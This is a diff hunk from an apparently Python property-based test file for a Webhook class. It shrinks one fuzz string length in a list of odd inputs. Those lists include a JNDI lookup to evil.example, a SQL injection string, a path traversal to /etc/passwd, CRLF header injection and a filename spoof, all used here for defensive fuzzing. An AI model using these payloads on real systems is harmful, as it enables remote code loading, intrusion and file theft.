@@ -40,7 +40,7 @@ class Webhook:
 
 STRANGE = ["", "\0", "a\0b", "a\r\nX: y", "\x1b[2J", "\u202egpj.exe", "\ufeff", "\u0663", "\u00b2"]
 STRANGE += ["%00", "%", "+", "&=", "${jndi:ldap://evil.example/}", "' OR 1=1--", "../../etc/passwd"]
-STRANGE += ["x" * 300, "x" * 30_000, "\U0010ffff" * 100, "e" + "\u0301" * 500, "absent", "paused"]
+STRANGE += ["x" * 300, "x" * 3_000, "\U0010ffff" * 100, "e" + "\u0301" * 500, "absent", "paused"]
 NUMBERS = ["-1", "0", "1", "11", "51", "999999999", "9" * 5000, "1e9", "0x10", "NaN", " 1", "1.0"]
 TEXTS = st.text(max_size=12) | st.sampled_from(STRANGE + NUMBERS)
 SIDS = st.sampled_from(
